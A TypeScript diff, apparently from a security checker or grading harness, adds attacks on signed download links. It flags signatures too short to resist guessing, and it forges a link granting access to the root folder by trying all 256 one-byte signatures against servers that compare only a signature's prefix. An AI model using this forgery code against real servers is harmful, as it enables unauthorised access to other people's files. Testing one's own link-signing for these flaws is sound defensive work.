@@ -67,6 +67,14 @@ export async function exploit(code: Code, vary: Vary): Promise<Breach | false> {
     const grant = await grantOf(links, Buffer.from(fields.toString()), hex, at)
     if (grant) return { sent: `the own link with ${name}=${value} and the same signature`, got: `${grant.customer} gets ${grant.path}${name === 'expires' ? ', after the week of the link is over' : ''}`, damage: `The signature doesn't cover the field ${name}, so everybody with a link can change it.` }
   }
+  if (hex.length < 16)
+    return { sent: `guesses of a signature of ${hex.length / 2} bytes`, got: `one in ${2 ** (4 * hex.length)} is right, for whatever payload`, damage: 'So many requests take minutes or hours, and then everything on the server is open.' }
+  // Some servers compare as much as they are given.
+  const everything = Buffer.from(`expires=${Math.floor(now / 1000) + 9e5}&customer=${owner}&folder=%2F`)
+  for (let byte = 0; byte < 256; byte++) {
+    const guess = byte.toString(16).padStart(2, '0')
+    if (await grantOf(links, everything, guess)) return { sent: `a made-up link to everything, with one byte for a signature: ${encode(everything)}.${guess}`, got: 'access to /', damage: 'One of 256 guesses is right: only the beginning of the signature is compared.' }
+  }
   const algorithm = { 20: sha1, 32: sha256, 64: sha512 }[hex.length / 2]
   if (!algorithm) return false
   const blockLength = algorithm === sha512 ? 128 : 64
